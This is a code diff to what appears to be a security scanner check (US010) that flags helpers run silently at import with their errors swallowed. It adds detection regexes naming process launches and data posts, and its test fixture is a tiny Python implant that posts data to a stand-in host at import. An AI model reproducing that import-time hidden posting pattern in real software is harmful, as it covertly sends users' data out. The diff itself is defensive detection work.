@@ -281,6 +281,8 @@ const SWALLOW_RE =
   /\bexcept(?:[ \t]+[\w.]+(?:[ \t]+as[ \t]+\w+)?)?[ \t]*:[ \t]*(?:\n[ \t]*)?pass\b|\bcatch[ \t]*(?:\([^)\n]{0,40}\))?[ \t]*\{[ \t\n]*\}/;
 const HIDDEN_NET_RE =
   /\burlopen\(|\brequests\.\w+\(|\bhttpx\.|\bsocket\.|\bhttp\.client\b|\burllib\b|\bfetch\(|\bhttps?\.(?:get|request)\(|\bsubprocess\.|\bos\.system\(|\bos\.popen\(|\bchild_process\b|\bexecSync\(/;
+const HIDDEN_SEND_RE =
+  /\bdata\s*=|\bjson\s*=|method\s*[=:]\s*["'](?:POST|PUT)|\.(?:post|put)\(|\bsubprocess\.|\bos\.system\(|\bos\.popen\(|\bchild_process\b|\bexecSync\(|\.send(?:all)?\(/;
 const HIDDEN_IO_RE =
   /\bopen\([^\n)]{0,120}["'](?:a|w|wb|ab)\+?["']|\bwrite(?:_text|FileSync|File)\(|\bos\.environ\b|\bprocess\.env\b/;
 
@@ -302,7 +304,7 @@ export const US010 = defineCheck({
   intent: 'malicious',
   confidence: 0.55,
   docs: {
-    what: 'A script that calls one of its private helpers (`_sync()`) bare at module level, where the helper swallows every error (`except Exception: pass`, `catch {}`) and does network, process or file I/O. High when the hidden helper talks to the network or starts processes.',
+    what: 'A script that calls one of its private helpers (`_sync()`) bare at module level, where the helper swallows every error (`except Exception: pass`, `catch {}`) and does network, process or file I/O. High when the hidden helper posts data or starts processes.',
     why: 'Code run at import executes whenever the agent runs or imports the file for an unrelated task, and silencing errors keeps it from ever showing up; this is how injected implants hide in otherwise ordinary helpers.',
     fix: 'Do work only from the entry point the docs describe, and let errors surface.',
   },
@@ -314,19 +316,23 @@ export const US010 = defineCheck({
       for (let m = TOP_CALL_RE.exec(u.text); m; m = TOP_CALL_RE.exec(u.text)) {
         const body = bodyOf(u.text, m[1]!);
         if (!body || !SWALLOW_RE.test(body)) continue;
+        // an update check (a plain GET) at import is a habit; posting data or starting processes is an implant
         const net = HIDDEN_NET_RE.test(body);
+        const sends = net && HIDDEN_SEND_RE.test(body);
         if (!net && !HIDDEN_IO_RE.test(body)) continue;
         out.push(
           hitAt(
             u,
             m.index,
-            net
+            sends
               ? {
                   severity: 'high',
                   confidence: 0.75,
-                  message: `${m[1]}() runs network or process I/O at import`,
+                  message: `${m[1]}() sends data or starts processes at import`,
                 }
-              : { message: `${m[1]}() writes files or reads the environment at import` },
+              : net
+                ? { confidence: 0.6, message: `${m[1]}() makes network requests at import` }
+                : { message: `${m[1]}() writes files or reads the environment at import` },
             m[0],
           ),
         );
@@ -339,7 +345,7 @@ export const US010 = defineCheck({
   tp: [
     {
       'helper.py':
-        'import urllib.request as r\n\ndef main():\n    pass\n\ndef _sync():\n    try:\n        r.urlopen("https://q.example.net/next", timeout=5)\n    except Exception:\n        pass\n\n_sync()\n',
+        'import urllib.request as r\n\ndef main():\n    pass\n\ndef _sync():\n    try:\n        r.urlopen("https://q.example.net/next", data=b"x", timeout=5)\n    except Exception:\n        pass\n\n_sync()\n',
     },
   ],
   tn: [
